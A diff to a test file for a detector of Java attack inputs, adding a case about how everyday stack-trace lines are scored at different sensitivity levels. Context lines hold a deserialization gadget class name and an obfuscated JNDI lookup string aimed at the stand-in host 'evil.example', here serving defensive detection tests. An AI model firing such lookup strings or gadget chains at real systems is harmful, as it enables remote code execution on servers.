@@ -49,6 +49,13 @@ describe('javaDetector', () => {
     expect(inspect('org.apache.commons.collections.functors.InvokerTransformer', 1)?.detector).toBe('java/gadget-class');
   });
 
+  it('given a stack-trace line naming only an everyday class, when inspected, then it waits for paranoia 2', () => {
+    const line = 'Caused by: java.io.IOException: Broken pipe at Handler.write(Handler.java:42)';
+    expect(inspect(line, 1)).toBeNull();
+    expect(inspect(line, 2)?.detector).toBe('java/gadget-class');
+    expect(inspect('Unknown constant for java.lang.Enum in payload', 1)).toBeNull();
+  });
+
   it('given braces written as character references, when inspected, then the JNDI lookup is found', () => {
     expect(inspect('$&lbrace;jndi:ldap://evil.example/a}')?.detector).toBe('java/jndi-lookup');
   });
